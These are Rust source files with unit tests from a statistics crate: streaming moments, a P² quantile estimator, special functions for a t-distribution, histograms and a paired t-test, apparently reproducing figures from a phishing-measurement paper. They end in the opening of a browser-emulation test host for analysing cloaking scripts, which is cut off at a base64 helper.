                    // linear interpolation toward the neighbour.
                    let j = if d > 0.0 { i + 1 } else { i - 1 };
                    self.q[i] + d * (self.q[j] - self.q[i]) / (self.pos[j] - self.pos[i])
                };
                self.pos[i] += d;
            }
        }
    }

    /// The current estimate, `None` when nothing was pushed. Exact (linear
    /// interpolation over the sorted sample) for n ≤ 5.
    pub fn estimate(&self) -> Option<f64> {
        if self.count == 0 {
            return None;
        }
        if self.count <= 5 {
            let mut v = self.warmup.clone();
            v.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
            let rank = self.p * (v.len() - 1) as f64;
            let lo = rank.floor() as usize;
            let hi = rank.ceil() as usize;
            let frac = rank - lo as f64;
            return Some(v[lo] * (1.0 - frac) + v[hi] * frac);
        }
        Some(self.q[2])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::describe::{median, Describe};

    fn close(a: f64, b: f64, tol: f64) {
        assert!((a - b).abs() < tol, "{a} vs {b}");
    }

    /// Deterministic pseudo-uniform sequence in [0, 1).
    fn lcg_stream(n: usize) -> Vec<f64> {
        let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
        (0..n)
            .map(|_| {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                (state >> 11) as f64 / (1u64 << 53) as f64
            })
            .collect()
    }

    #[test]
    fn moments_match_describe_exactly_enough() {
        let sample = lcg_stream(5000);
        let batch = Describe::of(&sample);
        let mut m = Moments::new();
        for &x in &sample {
            m.push(x);
        }
        assert_eq!(m.count(), sample.len() as u64);
        close(m.mean(), batch.mean, 1e-9);
        close(m.stddev(), batch.stddev, 1e-9);
        close(m.skewness(), batch.skewness, 1e-6);
        close(m.kurtosis_excess(), batch.kurtosis_excess, 1e-6);
        assert_eq!(m.min(), Some(batch.min));
        assert_eq!(m.max(), Some(batch.max));
    }

    #[test]
    fn moments_on_fat_tailed_sample() {
        let mut xs = vec![1.0; 95];
        xs.extend_from_slice(&[50.0, 60.0, 70.0, 80.0, 90.0]);
        let batch = Describe::of(&xs);
        let mut m = Moments::new();
        for &x in &xs {
            m.push(x);
        }
        close(m.kurtosis_excess(), batch.kurtosis_excess, 1e-8);
        close(m.skewness(), batch.skewness, 1e-8);
    }

    #[test]
    fn moments_edge_cases() {
        let empty = Moments::new();
        assert_eq!(empty.count(), 0);
        assert_eq!(empty.min(), None);
        assert_eq!(empty.max(), None);
        assert_eq!(empty.stddev(), 0.0);
        assert_eq!(empty.skewness(), 0.0);
        assert_eq!(empty.kurtosis_excess(), 0.0);

        let mut constant = Moments::new();
        for _ in 0..10 {
            constant.push(7.0);
        }
        assert_eq!(constant.mean(), 7.0);
        assert_eq!(constant.stddev(), 0.0);
        assert_eq!(constant.skewness(), 0.0);
        assert_eq!(constant.kurtosis_excess(), 0.0);

        let mut single = Moments::new();
        single.push(3.0);
        assert_eq!(single.stddev(), 0.0);
        assert_eq!(single.min(), Some(3.0));
    }

    #[test]
    #[should_panic(expected = "non-finite")]
    fn moments_reject_non_finite() {
        Moments::new().push(f64::NAN);
    }

    #[test]
    fn p2_median_is_exact_for_small_samples() {
        let mut est = P2Quantile::median();
        assert_eq!(est.estimate(), None);
        for &x in &[9.0, 1.0, 5.0] {
            est.push(x);
        }
        assert_eq!(est.estimate(), Some(5.0));
        est.push(3.0);
        // Sorted: 1,3,5,9 -> median 4.
        assert_eq!(est.estimate(), Some(4.0));
    }

    #[test]
    fn p2_median_tracks_uniform_stream() {
        let sample = lcg_stream(20_000);
        let mut est = P2Quantile::median();
        for &x in &sample {
            est.push(x);
        }
        let exact = median(&sample);
        let approx = est.estimate().unwrap();
        close(approx, exact, 0.02);
        assert_eq!(est.count(), sample.len() as u64);
    }

    #[test]
    fn p2_upper_quantile_orders_above_median() {
        let sample = lcg_stream(10_000);
        let mut med = P2Quantile::median();
        let mut p90 = P2Quantile::new(0.9);
        for &x in &sample {
            med.push(x);
            p90.push(x);
        }
        let m = med.estimate().unwrap();
        let hi = p90.estimate().unwrap();
        assert!(hi > m, "p90 {hi} must exceed median {m}");
        close(hi, 0.9, 0.03);
    }

    #[test]
    fn p2_survives_fat_tails_and_duplicates() {
        // Mostly identical values with rare huge outliers — the shape of
        // the paper's timedelta distributions (and a classic P² stressor).
        let mut est = P2Quantile::median();
        for i in 0..1000 {
            let x = if i % 100 == 99 { 5000.0 } else { 2.0 };
            est.push(x);
        }
        let e = est.estimate().unwrap();
        assert!((2.0..100.0).contains(&e), "median estimate {e} off target");
    }

    #[test]
    #[should_panic(expected = "out of range")]
    fn p2_rejects_bad_quantile() {
        P2Quantile::new(1.5);
    }

    #[test]
    fn moments_match_describe_on_bimodal_sample() {
        // Two well-separated modes, interleaved — the shape single-pass
        // estimators are most often wrong about.
        let xs: Vec<f64> = (0..4000)
            .map(|i| {
                let base = if i % 2 == 0 { 10.0 } else { 100.0 };
                base + (i % 7) as f64 * 0.25
            })
            .collect();
        let batch = Describe::of(&xs);
        let mut m = Moments::new();
        for &x in &xs {
            m.push(x);
        }
        close(m.mean(), batch.mean, 1e-9);
        close(m.stddev(), batch.stddev, 1e-9);
        close(m.skewness(), batch.skewness, 1e-8);
        close(m.kurtosis_excess(), batch.kurtosis_excess, 1e-8);
        assert_eq!(m.min(), Some(batch.min));
        assert_eq!(m.max(), Some(batch.max));
    }

    #[test]
    fn p2_quartiles_on_bimodal_sample() {
        // The quartiles sit inside the modes (where P² interpolates well);
        // the median sits in the empty gap between them, where any value
        // bracketed by the modes is as good an answer as the exact one.
        let xs: Vec<f64> = (0..4000)
            .map(|i| {
                let base = if i % 2 == 0 { 10.0 } else { 100.0 };
                base + (i % 7) as f64 * 0.25
            })
            .collect();
        let mut p25 = P2Quantile::new(0.25);
        let mut med = P2Quantile::median();
        let mut p75 = P2Quantile::new(0.75);
        for &x in &xs {
            p25.push(x);
            med.push(x);
            p75.push(x);
        }
        let lo = p25.estimate().unwrap();
        assert!((10.0..=11.5).contains(&lo), "p25 {lo} left the low mode");
        let hi = p75.estimate().unwrap();
        assert!((100.0..=101.5).contains(&hi), "p75 {hi} left the high mode");
        let mid = med.estimate().unwrap();
        assert!(
            (11.5..=100.0).contains(&mid),
            "median {mid} outside the inter-mode gap"
        );
    }

    #[test]
    fn p2_arbitrary_quantile_exact_below_five_samples() {
        // n <= 5 uses the sorted warmup buffer with linear interpolation —
        // check the exact path for a non-median quantile at every size.
        let mut q = P2Quantile::new(0.25);
        q.push(4.0);
        assert_eq!(q.estimate(), Some(4.0));
        q.push(8.0);
        // Sorted 4,8: rank 0.25 -> 4*0.75 + 8*0.25.
        assert_eq!(q.estimate(), Some(5.0));
        q.push(0.0);
        // Sorted 0,4,8: rank 0.5 -> midpoint of 0 and 4.
        assert_eq!(q.estimate(), Some(2.0));
        q.push(12.0);
        // Sorted 0,4,8,12: rank 0.75 -> 0*0.25 + 4*0.75.
        assert_eq!(q.estimate(), Some(3.0));
        q.push(2.0);
        // Sorted 0,2,4,8,12: rank 1.0 lands exactly on the second value.
        assert_eq!(q.estimate(), Some(2.0));
    }

    #[test]
    fn p2_handoff_from_warmup_to_markers_stays_sane() {
        // The 6th observation switches from the exact sorted buffer to the
        // marker machinery; the estimate must not jump off the sample.
        let mut est = P2Quantile::median();
        for x in 1..=6 {
            est.push(x as f64);
        }
        let e = est.estimate().unwrap();
        assert!((3.0..=4.0).contains(&e), "median of 1..=6 estimated {e}");
    }
}
