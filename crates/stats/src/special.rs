//! Special functions needed by the t-distribution CDF.
//!
//! Only what the t-test requires: log-gamma (Lanczos approximation, g = 7,
//! n = 9 coefficients) and the regularized incomplete beta function
//! `I_x(a, b)` evaluated with the Lentz modified continued fraction.

/// Lanczos coefficients for g = 7.
const LANCZOS: [f64; 9] = [
    0.999_999_999_999_809_9,
    676.520_368_121_885_1,
    -1_259.139_216_722_402_8,
    771.323_428_777_653_1,
    -176.615_029_162_140_6,
    12.507_343_278_686_905,
    -0.138_571_095_265_720_12,
    9.984_369_578_019_572e-6,
    1.505_632_735_149_311_6e-7,
];

/// Natural log of the gamma function for `x > 0`.
///
/// Accuracy is ~1e-13 over the domain the t-test uses (half-integer and
/// integer degrees of freedom up to a few hundred).
///
/// # Panics
///
/// Panics if `x <= 0`.
pub fn ln_gamma(x: f64) -> f64 {
    assert!(x > 0.0, "ln_gamma domain: x must be positive, got {x}");
    if x < 0.5 {
        // Reflection formula: Γ(x)Γ(1−x) = π / sin(πx)
        let pi = std::f64::consts::PI;
        return (pi / (pi * x).sin()).ln() - ln_gamma(1.0 - x);
    }
    let x = x - 1.0;
    let mut acc = LANCZOS[0];
    for (i, &c) in LANCZOS.iter().enumerate().skip(1) {
        acc += c / (x + i as f64);
    }
    let t = x + 7.5;
    0.5 * (2.0 * std::f64::consts::PI).ln() + (x + 0.5) * t.ln() - t + acc.ln()
}

/// Regularized incomplete beta function `I_x(a, b)` for `a, b > 0` and
/// `x` in `[0, 1]`.
///
/// # Panics
///
/// Panics if `x` is outside `[0, 1]` or `a`/`b` are not positive.
pub fn betai(a: f64, b: f64, x: f64) -> f64 {
    assert!((0.0..=1.0).contains(&x), "betai domain: x in [0,1], got {x}");
    assert!(a > 0.0 && b > 0.0, "betai domain: a,b > 0");
    if x == 0.0 {
        return 0.0;
    }
    if x == 1.0 {
        return 1.0;
    }
    let ln_front = ln_gamma(a + b) - ln_gamma(a) - ln_gamma(b) + a * x.ln() + b * (1.0 - x).ln();
    // The continued fraction converges fast only for x below (a+1)/(a+b+2);
    // use the symmetry I_x(a,b) = 1 − I_{1−x}(b,a) otherwise. The comparison
    // must be inclusive: at exactly the threshold (e.g. a = b = 0.5, x = 0.5)
    // a strict `<` would bounce between the two branches forever.
    if x <= (a + 1.0) / (a + b + 2.0) {
        ln_front.exp() * beta_cf(a, b, x) / a
    } else {
        1.0 - betai(b, a, 1.0 - x)
    }
}

/// Lentz's algorithm for the continued-fraction part of the incomplete beta.
fn beta_cf(a: f64, b: f64, x: f64) -> f64 {
    const MAX_ITER: usize = 300;
    const EPS: f64 = 1e-15;
    const TINY: f64 = 1e-300;

    let qab = a + b;
    let qap = a + 1.0;
    let qam = a - 1.0;
    let mut c = 1.0;
    let mut d = 1.0 - qab * x / qap;
    if d.abs() < TINY {
        d = TINY;
    }
    d = 1.0 / d;
    let mut h = d;
    for m in 1..=MAX_ITER {
        let m = m as f64;
        let m2 = 2.0 * m;
        // even step
        let aa = m * (b - m) * x / ((qam + m2) * (a + m2));
        d = 1.0 + aa * d;
        if d.abs() < TINY {
            d = TINY;
        }
        c = 1.0 + aa / c;
        if c.abs() < TINY {
            c = TINY;
        }
        d = 1.0 / d;
        h *= d * c;
        // odd step
        let aa = -(a + m) * (qab + m) * x / ((a + m2) * (qap + m2));
        d = 1.0 + aa * d;
        if d.abs() < TINY {
            d = TINY;
        }
        c = 1.0 + aa / c;
        if c.abs() < TINY {
            c = TINY;
        }
        d = 1.0 / d;
        let del = d * c;
        h *= del;
        if (del - 1.0).abs() < EPS {
            break;
        }
    }
    h
}

/// CDF of Student's t distribution with `df` degrees of freedom.
///
/// # Panics
///
/// Panics if `df <= 0`.
pub fn student_t_cdf(t: f64, df: f64) -> f64 {
    assert!(df > 0.0, "degrees of freedom must be positive");
    let x = df / (df + t * t);
    let p = 0.5 * betai(0.5 * df, 0.5, x);
    if t > 0.0 {
        1.0 - p
    } else {
        p
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn close(a: f64, b: f64, tol: f64) {
        assert!((a - b).abs() < tol, "{a} vs {b}");
    }

    #[test]
    fn ln_gamma_known_values() {
        close(ln_gamma(1.0), 0.0, 1e-12);
        close(ln_gamma(2.0), 0.0, 1e-12);
        close(ln_gamma(5.0), 24.0_f64.ln(), 1e-10); // Γ(5) = 24
        close(ln_gamma(0.5), std::f64::consts::PI.sqrt().ln(), 1e-10);
        close(ln_gamma(10.5), 1_133_278.388_948_441_4_f64.ln(), 1e-8); // Γ(10.5)
    }

    #[test]
    fn betai_boundaries_and_symmetry() {
        close(betai(2.0, 3.0, 0.0), 0.0, 1e-15);
        close(betai(2.0, 3.0, 1.0), 1.0, 1e-15);
        // I_x(1,1) = x
        close(betai(1.0, 1.0, 0.37), 0.37, 1e-12);
        // Symmetry: I_x(a,b) = 1 - I_{1-x}(b,a)
        let v = betai(2.5, 4.0, 0.3);
        close(v, 1.0 - betai(4.0, 2.5, 0.7), 1e-12);
    }

    #[test]
    fn betai_closed_form_small_integer() {
        // I_x(2,2) = x^2 (3 - 2x)
        let x: f64 = 0.4;
        close(betai(2.0, 2.0, x), x * x * (3.0 - 2.0 * x), 1e-12);
    }

    #[test]
    fn t_cdf_reference_points() {
        // Standard references: t=0 -> 0.5 for any df.
        close(student_t_cdf(0.0, 5.0), 0.5, 1e-12);
        // df=1 (Cauchy): CDF(1) = 0.75.
        close(student_t_cdf(1.0, 1.0), 0.75, 1e-10);
        // df=10, t=2.228 is the 97.5th percentile.
        close(student_t_cdf(2.228, 10.0), 0.975, 5e-4);
        // df=9, t=3.25 is roughly the 99.5th percentile (two-sided p=0.01).
        close(student_t_cdf(3.25, 9.0), 0.995, 5e-4);
        // Symmetry
        close(
            student_t_cdf(-1.7, 7.0),
            1.0 - student_t_cdf(1.7, 7.0),
            1e-12,
        );
    }

    #[test]
    fn t_cdf_large_df_approaches_normal() {
        // Φ(1.96) ≈ 0.975
        close(student_t_cdf(1.96, 10_000.0), 0.975, 1e-3);
    }

    #[test]
    #[should_panic(expected = "domain")]
    fn betai_rejects_out_of_range_x() {
        betai(1.0, 1.0, 1.5);
    }
}
