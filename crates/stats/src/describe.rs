//! Descriptive statistics.
//!
//! The paper reports means with standard deviations (518.1 ± 278.4 messages
//! per month), medians (575 h / 185 h timedeltas, 1.0 reported message per
//! domain) and excess kurtosis (8.4 / 6.8 for the fat-tailed timedelta
//! distributions). [`Describe`] computes all of them in one pass over a
//! sample.

use serde::{Deserialize, Serialize};

/// Summary statistics of a sample.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Describe {
    /// Number of observations.
    pub n: usize,
    /// Arithmetic mean.
    pub mean: f64,
    /// Sample standard deviation (n − 1 denominator).
    pub stddev: f64,
    /// Median (average of the two central order statistics for even n).
    pub median: f64,
    /// Smallest observation.
    pub min: f64,
    /// Largest observation.
    pub max: f64,
    /// Excess kurtosis (Fisher definition: normal = 0). The paper's 8.4 and
    /// 6.8 are excess values — "fat tails" means positive excess kurtosis.
    pub kurtosis_excess: f64,
    /// Skewness (third standardized moment).
    pub skewness: f64,
}

impl Describe {
    /// Compute the summary of `sample`.
    ///
    /// # Panics
    ///
    /// Panics if `sample` is empty or contains non-finite values.
    pub fn of(sample: &[f64]) -> Describe {
        assert!(!sample.is_empty(), "cannot describe an empty sample");
        assert!(
            sample.iter().all(|x| x.is_finite()),
            "sample contains non-finite values"
        );
        let n = sample.len();
        let nf = n as f64;
        let mean = sample.iter().sum::<f64>() / nf;

        let mut m2 = 0.0;
        let mut m3 = 0.0;
        let mut m4 = 0.0;
        let mut min = f64::INFINITY;
        let mut max = f64::NEG_INFINITY;
        for &x in sample {
            let d = x - mean;
            m2 += d * d;
            m3 += d * d * d;
            m4 += d * d * d * d;
            min = min.min(x);
            max = max.max(x);
        }
        m2 /= nf;
        m3 /= nf;
        m4 /= nf;

        let variance_sample = if n > 1 { m2 * nf / (nf - 1.0) } else { 0.0 };
        let stddev = variance_sample.sqrt();
        let (skewness, kurtosis_excess) = if m2 > 0.0 {
            (m3 / m2.powf(1.5), m4 / (m2 * m2) - 3.0)
        } else {
            (0.0, 0.0)
        };

        Describe {
            n,
            mean,
            stddev,
            median: median(sample),
            min,
            max,
            kurtosis_excess,
            skewness,
        }
    }
}

/// Median of a sample (average of central pair for even length).
///
/// # Panics
///
/// Panics if `sample` is empty.
pub fn median(sample: &[f64]) -> f64 {
    assert!(!sample.is_empty(), "median of empty sample");
    let mut v = sample.to_vec();
    v.sort_by(|a, b| a.partial_cmp(b).expect("non-finite value in sample"));
    let n = v.len();
    if n % 2 == 1 {
        v[n / 2]
    } else {
        (v[n / 2 - 1] + v[n / 2]) / 2.0
    }
}

/// Linear-interpolation percentile, `p` in `[0, 100]`.
///
/// # Panics
///
/// Panics if `sample` is empty or `p` is out of range.
pub fn percentile(sample: &[f64], p: f64) -> f64 {
    assert!(!sample.is_empty(), "percentile of empty sample");
    assert!((0.0..=100.0).contains(&p), "percentile p out of range");
    let mut v = sample.to_vec();
    v.sort_by(|a, b| a.partial_cmp(b).expect("non-finite value in sample"));
    let rank = p / 100.0 * (v.len() - 1) as f64;
    let lo = rank.floor() as usize;
    let hi = rank.ceil() as usize;
    if lo == hi {
        v[lo]
    } else {
        let frac = rank - lo as f64;
        v[lo] * (1.0 - frac) + v[hi] * frac
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn close(a: f64, b: f64, tol: f64) {
        assert!((a - b).abs() < tol, "{a} vs {b}");
    }

    #[test]
    fn mean_and_stddev_match_hand_calculation() {
        let d = Describe::of(&[2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0]);
        close(d.mean, 5.0, 1e-12);
        // population sd is 2, sample sd is sqrt(32/7)
        close(d.stddev, (32.0_f64 / 7.0).sqrt(), 1e-12);
        assert_eq!(d.min, 2.0);
        assert_eq!(d.max, 9.0);
    }

    #[test]
    fn median_even_and_odd() {
        assert_eq!(median(&[3.0, 1.0, 2.0]), 2.0);
        assert_eq!(median(&[4.0, 1.0, 2.0, 3.0]), 2.5);
        assert_eq!(median(&[42.0]), 42.0);
    }

    #[test]
    fn kurtosis_of_normal_like_sample_is_near_zero() {
        // Deterministic pseudo-normal via sum of uniforms (Irwin–Hall).
        let mut xs = Vec::new();
        let mut state: u64 = 1;
        for _ in 0..20_000 {
            let mut s = 0.0;
            for _ in 0..12 {
                state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                s += (state >> 11) as f64 / (1u64 << 53) as f64;
            }
            xs.push(s - 6.0);
        }
        let d = Describe::of(&xs);
        assert!(d.kurtosis_excess.abs() < 0.15, "kurtosis {}", d.kurtosis_excess);
        assert!(d.skewness.abs() < 0.1, "skewness {}", d.skewness);
    }

    #[test]
    fn kurtosis_of_fat_tailed_sample_is_positive() {
        // Mostly small values with rare huge outliers: a fat right tail like
        // the paper's timedelta distributions.
        let mut xs = vec![1.0; 95];
        xs.extend_from_slice(&[50.0, 60.0, 70.0, 80.0, 90.0]);
        let d = Describe::of(&xs);
        assert!(d.kurtosis_excess > 3.0);
        assert!(d.skewness > 1.0, "right-skewed");
    }

    #[test]
    fn constant_sample_has_zero_spread() {
        let d = Describe::of(&[7.0; 10]);
        assert_eq!(d.stddev, 0.0);
        assert_eq!(d.kurtosis_excess, 0.0);
        assert_eq!(d.skewness, 0.0);
        assert_eq!(d.median, 7.0);
    }

    #[test]
    fn percentiles_interpolate() {
        let xs = [10.0, 20.0, 30.0, 40.0];
        assert_eq!(percentile(&xs, 0.0), 10.0);
        assert_eq!(percentile(&xs, 100.0), 40.0);
        assert_eq!(percentile(&xs, 50.0), 25.0);
        close(percentile(&xs, 25.0), 17.5, 1e-12);
    }

    #[test]
    #[should_panic(expected = "empty")]
    fn empty_sample_panics() {
        Describe::of(&[]);
    }

    #[test]
    #[should_panic(expected = "non-finite")]
    fn non_finite_sample_panics() {
        Describe::of(&[1.0, f64::NAN]);
    }
}
