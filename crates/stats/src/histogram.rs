//! Fixed-width histograms.
//!
//! Figure 3 of the paper buckets domain counts by timedelta (days, under a
//! 90-day cap). [`Histogram`] produces the same kind of series: fixed-width
//! bins over a closed range, values outside counted separately (the paper
//! reports "102 domains have a timedeltaA over 90 days" alongside the plot).

use serde::{Deserialize, Serialize};

/// A fixed-width histogram over `[lo, hi)`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Histogram {
    lo: f64,
    hi: f64,
    bins: Vec<u64>,
    /// Observations below `lo`.
    pub underflow: u64,
    /// Observations at or above `hi`.
    pub overflow: u64,
}

impl Histogram {
    /// A histogram with `bins` equal-width buckets spanning `[lo, hi)`.
    ///
    /// # Panics
    ///
    /// Panics if `bins == 0` or `hi <= lo`.
    pub fn new(lo: f64, hi: f64, bins: usize) -> Self {
        assert!(bins > 0, "histogram needs at least one bin");
        assert!(hi > lo, "histogram range must be non-empty");
        Histogram {
            lo,
            hi,
            bins: vec![0; bins],
            underflow: 0,
            overflow: 0,
        }
    }

    /// Record one observation.
    pub fn record(&mut self, x: f64) {
        if x < self.lo {
            self.underflow += 1;
        } else if x >= self.hi {
            self.overflow += 1;
        } else {
            let idx = ((x - self.lo) / (self.hi - self.lo) * self.bins.len() as f64) as usize;
            // Guard against the floating-point edge where x is a hair under hi.
            let idx = idx.min(self.bins.len() - 1);
            self.bins[idx] += 1;
        }
    }

    /// Record every observation in `xs`.
    pub fn record_all<I: IntoIterator<Item = f64>>(&mut self, xs: I) {
        for x in xs {
            self.record(x);
        }
    }

    /// Count in bin `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn count(&self, i: usize) -> u64 {
        self.bins[i]
    }

    /// Number of bins.
    pub fn num_bins(&self) -> usize {
        self.bins.len()
    }

    /// Total in-range observations.
    pub fn total_in_range(&self) -> u64 {
        self.bins.iter().sum()
    }

    /// `(bin_start, bin_end, count)` triples, the series a plot consumes.
    pub fn series(&self) -> Vec<(f64, f64, u64)> {
        let width = (self.hi - self.lo) / self.bins.len() as f64;
        self.bins
            .iter()
            .enumerate()
            .map(|(i, &c)| {
                let start = self.lo + i as f64 * width;
                (start, start + width, c)
            })
            .collect()
    }

    /// A compact ASCII rendering, one row per bin, for terminal reports.
    pub fn render_ascii(&self, max_width: usize) -> String {
        let peak = self.bins.iter().copied().max().unwrap_or(0).max(1);
        let mut out = String::new();
        for (start, end, count) in self.series() {
            let bar = "#".repeat((count as usize * max_width) / peak as usize);
            out.push_str(&format!("[{start:7.1},{end:7.1}) {count:6} {bar}\n"));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucketing_is_exact() {
        let mut h = Histogram::new(0.0, 90.0, 9); // 10-day bins like Figure 3
        h.record_all([0.0, 5.0, 9.999, 10.0, 45.0, 89.9].iter().copied());
        assert_eq!(h.count(0), 3);
        assert_eq!(h.count(1), 1);
        assert_eq!(h.count(4), 1);
        assert_eq!(h.count(8), 1);
        assert_eq!(h.total_in_range(), 6);
    }

    #[test]
    fn out_of_range_counted_separately() {
        let mut h = Histogram::new(0.0, 90.0, 9);
        h.record(-1.0);
        h.record(90.0);
        h.record(400.0);
        assert_eq!(h.underflow, 1);
        assert_eq!(h.overflow, 2);
        assert_eq!(h.total_in_range(), 0);
    }

    #[test]
    fn series_spans_range() {
        let h = Histogram::new(10.0, 20.0, 5);
        let s = h.series();
        assert_eq!(s.len(), 5);
        assert_eq!(s[0].0, 10.0);
        assert!((s[4].1 - 20.0).abs() < 1e-12);
    }

    #[test]
    fn boundary_value_lands_in_upper_bin() {
        let mut h = Histogram::new(0.0, 10.0, 10);
        h.record(3.0);
        assert_eq!(h.count(3), 1);
        assert_eq!(h.count(2), 0);
    }

    #[test]
    fn ascii_render_has_one_line_per_bin() {
        let mut h = Histogram::new(0.0, 3.0, 3);
        h.record_all([0.5, 0.6, 2.5].iter().copied());
        let s = h.render_ascii(10);
        assert_eq!(s.lines().count(), 3);
        assert!(s.contains('#'));
    }

    #[test]
    #[should_panic(expected = "at least one bin")]
    fn zero_bins_rejected() {
        Histogram::new(0.0, 1.0, 0);
    }
}
