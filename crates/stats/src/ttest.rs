//! Paired-samples t-test.
//!
//! Footnote 1 of the paper compares monthly user-reported phishing volumes
//! between March–December 2023 and January–October 2024 with a paired
//! samples t-test, obtaining p = 0.008 and rejecting the null hypothesis at
//! α = 0.05. [`paired_t_test`] reproduces that procedure.

use crate::special::student_t_cdf;
use serde::{Deserialize, Serialize};
use std::fmt;

/// The outcome of a paired t-test.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct TTestResult {
    /// The t statistic (mean difference over its standard error).
    pub t: f64,
    /// Degrees of freedom (n − 1).
    pub df: f64,
    /// Two-sided p-value.
    pub p_two_sided: f64,
    /// Mean of the pairwise differences.
    pub mean_diff: f64,
}

impl TTestResult {
    /// Whether the null hypothesis is rejected at significance `alpha`.
    pub fn rejects_null_at(&self, alpha: f64) -> bool {
        self.p_two_sided < alpha
    }
}

impl fmt::Display for TTestResult {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "t({:.0}) = {:.3}, p = {:.4} (two-sided)",
            self.df, self.t, self.p_two_sided
        )
    }
}

/// Errors from a t-test invocation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TTestError {
    /// The two samples have different lengths — pairing is undefined.
    UnequalLengths {
        /// Length of the first sample.
        a: usize,
        /// Length of the second sample.
        b: usize,
    },
    /// Fewer than two pairs: no variance can be estimated.
    TooFewPairs(usize),
    /// All pairwise differences are identical, so the standard error is zero.
    ZeroVariance,
}

impl fmt::Display for TTestError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TTestError::UnequalLengths { a, b } => {
                write!(f, "paired samples must have equal length ({a} vs {b})")
            }
            TTestError::TooFewPairs(n) => write!(f, "need at least 2 pairs, got {n}"),
            TTestError::ZeroVariance => write!(f, "differences have zero variance"),
        }
    }
}

impl std::error::Error for TTestError {}

/// Run a paired-samples t-test on observations `a[i]` vs `b[i]`.
///
/// # Errors
///
/// Returns [`TTestError`] when the inputs cannot support the test (unequal
/// lengths, fewer than two pairs, or zero variance of differences).
pub fn paired_t_test(a: &[f64], b: &[f64]) -> Result<TTestResult, TTestError> {
    if a.len() != b.len() {
        return Err(TTestError::UnequalLengths {
            a: a.len(),
            b: b.len(),
        });
    }
    let n = a.len();
    if n < 2 {
        return Err(TTestError::TooFewPairs(n));
    }
    let diffs: Vec<f64> = a.iter().zip(b).map(|(x, y)| x - y).collect();
    let nf = n as f64;
    let mean = diffs.iter().sum::<f64>() / nf;
    let var = diffs.iter().map(|d| (d - mean).powi(2)).sum::<f64>() / (nf - 1.0);
    if var == 0.0 {
        return Err(TTestError::ZeroVariance);
    }
    let se = (var / nf).sqrt();
    let t = mean / se;
    let df = nf - 1.0;
    let p_two_sided = 2.0 * (1.0 - student_t_cdf(t.abs(), df));
    Ok(TTestResult {
        t,
        df,
        p_two_sided,
        mean_diff: mean,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_samples_have_zero_variance() {
        let a = [1.0, 2.0, 3.0];
        assert_eq!(paired_t_test(&a, &a), Err(TTestError::ZeroVariance));
    }

    #[test]
    fn constant_shift_is_infinitely_significant() {
        // differences all equal -> zero variance error, so perturb slightly
        let a = [10.0, 20.0, 30.0, 40.0];
        let b = [5.0, 15.1, 24.9, 35.0];
        let r = paired_t_test(&a, &b).unwrap();
        assert!(r.t > 10.0);
        assert!(r.p_two_sided < 0.01);
        assert!(r.rejects_null_at(0.05));
    }

    #[test]
    fn known_textbook_example() {
        // Pre/post data checked by hand: differences [4,4,1,2,-3,5],
        // mean 13/6, sample variance 42.8333/5, so
        // t = (13/6) / sqrt(8.5667/6) = 1.8133 with df = 5.
        let pre = [18.0, 21.0, 16.0, 22.0, 19.0, 24.0];
        let post = [22.0, 25.0, 17.0, 24.0, 16.0, 29.0];
        let r = paired_t_test(&post, &pre).unwrap();
        assert!((r.t - 1.8133).abs() < 1e-3, "t = {}", r.t);
        assert!((r.mean_diff - 13.0 / 6.0).abs() < 1e-12);
        assert!((r.p_two_sided - 0.1295).abs() < 3e-3, "p = {}", r.p_two_sided);
        assert!(!r.rejects_null_at(0.05));
    }

    #[test]
    fn noisy_equal_means_not_significant() {
        let a = [10.0, 12.0, 9.0, 11.0, 10.5, 9.5];
        let b = [11.0, 9.0, 12.0, 10.0, 9.5, 10.5];
        let r = paired_t_test(&a, &b).unwrap();
        assert!(r.p_two_sided > 0.5, "p = {}", r.p_two_sided);
    }

    #[test]
    fn unequal_lengths_rejected() {
        assert_eq!(
            paired_t_test(&[1.0], &[1.0, 2.0]),
            Err(TTestError::UnequalLengths { a: 1, b: 2 })
        );
    }

    #[test]
    fn too_few_pairs_rejected() {
        assert_eq!(paired_t_test(&[1.0], &[2.0]), Err(TTestError::TooFewPairs(1)));
    }

    #[test]
    fn sign_of_t_follows_direction() {
        let a = [1.0, 2.0, 3.0, 4.0];
        let b = [2.0, 3.5, 4.0, 5.5];
        let r1 = paired_t_test(&a, &b).unwrap();
        let r2 = paired_t_test(&b, &a).unwrap();
        assert!(r1.t < 0.0 && r2.t > 0.0);
        assert!((r1.p_two_sided - r2.p_two_sided).abs() < 1e-12);
    }
}
