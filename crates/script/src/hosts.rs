//! Ready-made [`Host`] implementations.
//!
//! [`RecordingHost`] is the workhorse: it exposes the browser-like global
//! surface cloaking scripts touch (`navigator`, `console`, `document`,
//! `location`, `screen`, `Intl`, `fetch`, `atob`/`btoa`, timers,
//! `debugger`) backed by a configurable environment map, and records every
//! observable action for assertions. The real browser in `cb-browser`
//! implements [`Host`] directly; this one is for tests, the phishkit
//! authoring loop, and static analysis of captured scripts.

use crate::interp::{Host, ScriptError};
use crate::value::Value;
use std::collections::HashMap;

/// Base64 (standard alphabet) — local minimal codec so the script crate
/// stays dependency-free.
fn b64_encode(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
